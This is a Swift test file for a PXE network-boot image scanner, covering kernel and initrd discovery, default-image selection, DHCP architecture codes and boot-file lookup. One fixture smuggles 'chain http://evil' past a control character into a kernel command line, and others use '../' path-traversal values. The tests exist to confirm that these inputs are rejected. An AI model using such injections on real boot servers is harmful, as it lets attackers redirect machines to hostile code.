import Testing
@testable import BootImages

@Suite struct PXEImageTests {
    @Test func fixtureFolders() {
        let set = PXEImageSet.scan(imagesDirectory: fixtureImagesDirectory())
        #expect(set.images == [
            PXEImage(name: "alpine", kernel: "pxe/alpine/linux", initrd: "pxe/alpine/initrd", cmdline: "", isDefault: true),
            PXEImage(name: "debian", kernel: "pxe/debian/vmlinuz", initrd: "pxe/debian/initrd.img",
                     cmdline: "console=ttyS0 ip=dhcp", isDefault: false),
        ])
        #expect(set.problems.map(\.description) == [
            "pxe/bad+name: the folder name must be letters, digits, '.', '_' or '-' (it appears in URLs and iPXE scripts)",
            "pxe/nokernel: no kernel (vmlinuz, linux, kernel)",
        ])
        #expect(set.defaultImage?.name == "alpine")
    }

    @Test func configuredDefaultWinsAndAMissingOneIsReported() {
        let set = PXEImageSet.scan(imagesDirectory: fixtureImagesDirectory(), defaultName: "debian")
        #expect(set.defaultImage?.name == "debian")
        #expect(set.images.filter(\.isDefault).count == 1)
        let missing = PXEImageSet.scan(imagesDirectory: fixtureImagesDirectory(), defaultName: "fedora")
        #expect(missing.problems.contains { $0.reason == .defaultNotFound && $0.name == "fedora" })
        #expect(missing.defaultImage?.name == "alpine")
    }

    @Test func severalUnmarkedImagesHaveNoDefaultAndInitrdIsOptional() {
        let fs = MemoryFileSystem(["/i/pxe/b/vmlinuz": "k", "/i/pxe/a/kernel": "k"])
        let set = PXEImageSet.scan(imagesDirectory: "/i", fileSystem: fs)
        #expect(set.images.map(\.name) == ["a", "b"])
        #expect(set.defaultImage == nil)  // iPXE shows a menu
        #expect(set.images[0].initrd == nil)
        let single = PXEImageSet.scan(imagesDirectory: "/i", fileSystem: MemoryFileSystem(["/i/pxe/only/linux": "k"]))
        #expect(single.defaultImage?.name == "only")
    }

    @Test func declaredImagesAreCheckedOnDisk() {
        let fs = MemoryFileSystem(["/i/pxe/deb/vmlinuz": "k", "/i/pxe/deb/initrd.img": "i", "/i/pxe/fed/vmlinuz": "k"])
        let declared = [
            PXEImageDeclaration(name: "deb", kernel: "vmlinuz", initrd: "initrd.img", cmdline: "console=ttyS0\n quiet"),
            PXEImageDeclaration(name: "fed", kernel: "vmlinuz", initrd: "initramfs.img"),
            PXEImageDeclaration(name: "esc", kernel: "../../deb/vmlinuz"),
        ]
        let set = PXEImageSet.validate(declared, defaultName: "deb", imagesDirectory: "/i", fileSystem: fs)
        #expect(set.images == [PXEImage(name: "deb", kernel: "pxe/deb/vmlinuz", initrd: "pxe/deb/initrd.img",
                                        cmdline: "console=ttyS0 quiet", isDefault: true)])
        #expect(set.problems.map(\.description) == ["pxe/fed: pxe/fed/initramfs.img does not exist",
                                                    "pxe/esc: pxe/esc/../../deb/vmlinuz does not exist"])
        let noDefault = PXEImageSet.validate(declared, defaultName: "gone", imagesDirectory: "/i", fileSystem: fs)
        #expect(noDefault.defaultImage == nil && noDefault.problems.last?.reason == .defaultNotFound)
    }

    @Test func cmdlineCannotBreakOutOfAScriptLine() {
        let fs = MemoryFileSystem(["/i/pxe/x/vmlinuz": "k", "/i/pxe/x/cmdline": "quiet\u{1B}[2J\nchain http://evil"])
        let set = PXEImageSet.scan(imagesDirectory: "/i", fileSystem: fs)
        #expect(set.images.isEmpty)
        #expect(set.problems.map(\.reason) == [.cmdlineControlCharacter])
        #expect(PXEImageSet.oneLine("a\r\n\tb   c\n") == "a b c")
    }

    @Test func severalMarkedDefaultsAreReported() {
        let fs = MemoryFileSystem(["/i/pxe/a/vmlinuz": "k", "/i/pxe/a/default": "", "/i/pxe/b/vmlinuz": "k", "/i/pxe/b/default": ""])
        let set = PXEImageSet.scan(imagesDirectory: "/i", fileSystem: fs)
        #expect(set.defaultImage?.name == "a")
        #expect(set.problems.map(\.reason) == [.severalDefaults(chosen: "a")])
    }

    @Test func architectureFromOption93() {
        #expect(PXEArchitecture(option93: 0) == .bios)
        #expect(PXEArchitecture(option93: 7) == .uefiX64)
        #expect(PXEArchitecture(option93: 9) == .uefiX64)
        #expect(PXEArchitecture(option93: 16) == .uefiX64)
        #expect(PXEArchitecture(option93: 11) == .uefiArm64)
        #expect(PXEArchitecture(option93: 19) == .uefiArm64)
        #expect(PXEArchitecture(option93: 6) == nil)
        #expect(PXEArchitecture(option93: 0xFFFF) == nil)
    }

    @Test func bootFilesAreLocatedOrReportedMissing() {
        let files = PXEBootFiles()
        #expect(files.file(for: .uefiArm64) == "ipxe-arm64.efi")
        let missing = files.missing(in: [fixtureImagesDirectory() + "/pxe"], fileSystem: LocalFileSystem())
        #expect(missing.map(\.0) == [.uefiX64, .uefiArm64])
        #expect(missing.map(\.1) == ["ipxe.efi", "ipxe-arm64.efi"])
        let unsafe = PXEBootFiles(bios: "../undionly.kpxe")
        #expect(unsafe.missing(in: [fixtureImagesDirectory() + "/pxe/alpine"], fileSystem: LocalFileSystem()).map(\.0).contains(.bios))
    }
}
